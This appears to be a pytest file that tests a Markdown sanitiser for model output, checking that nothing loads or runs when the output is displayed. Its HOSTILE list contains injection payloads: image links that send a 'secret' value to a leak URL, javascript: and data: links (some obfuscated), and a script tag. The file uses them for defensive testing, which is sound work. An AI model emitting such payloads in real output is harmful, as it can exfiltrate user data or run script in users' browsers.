"""Model output and quoted passages render so that nothing loads by itself: no images, no HTML,
no javascript: links; code and ordinary Markdown stay as written."""
from __future__ import annotations

import pytest

from studio import safe_markdown as sm
from studio.text import model_markdown

LEAK = "http://127.0.0.1:9/leak?d=secret"
HOSTILE = [
    f"Opening hours ![x]({LEAK}) are seven to six.",
    f"![x][img]\n\n[img]: {LEAK}",
    f'![x]({LEAK} "title")',
    f"![x](<{LEAK}>)",
    f"[![inner]({LEAK})](https://example.com)",
    f"\\\\![double backslash]({LEAK})",
    f'<img src="{LEAK}">',
    f"<p>block</p>\n\n<img src={LEAK}>",
    "<script>document.title='pwned'</script>",
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[click me]( javascript:alert(1))",
    "[click me](java&#115;cript:alert(1))",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    f"- item\n  ```\n- next ![x]({LEAK})\n  ```",
    f"> quote ![x]({LEAK})",
    f"| a | b |\n|---|---|\n| ![x]({LEAK}) | <img src={LEAK}> |",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_loads_and_runs_nothing(text):
    assert sm.unsafe_parts(text), "the checker must see what is wrong with the raw text"
    assert sm.unsafe_parts(model_markdown(text)) == []


def test_an_image_becomes_a_link_the_user_may_follow_and_the_words_stay():
    shown = model_markdown(f"Hours ![the bakery]({LEAK}) daily.")
    assert shown == f"Hours &#33;[the bakery]({LEAK}) daily."


def test_ordinary_markdown_and_code_are_left_as_written():
    text = ("**Bold**, _it_, [docs](https://example.com/a_(b)) and <b>\n\n"
            "```python\nif a < b and c > d: print('![x](y)')\n```\n\n"
            "Inline `a < b` and `![x](y)` stay, a dollar $5 does not start LaTeX.")
    shown = model_markdown(text)
    assert "```python\nif a < b and c > d: print('![x](y)')\n```" in shown
    assert "`a < b`" in shown and "`![x](y)`" in shown
    assert "[docs](https://example.com/a_(b))" in shown and "**Bold**" in shown
    assert "&lt;b>" in shown and r"\$5" in shown


def test_mailto_and_https_links_survive():
    text = "[write](mailto:a@b.example) or [read](https://example.com)"
    assert model_markdown(text) == text


def test_whatever_the_rewrite_misses_falls_back_to_fully_escaped_text(monkeypatch):
    monkeypatch.setattr(sm, "_rewrite", lambda text: text)
    text = f"![x]({LEAK})"
    assert model_markdown(text) == sm.escape_all(text)
    assert sm.unsafe_parts(model_markdown(text)) == []
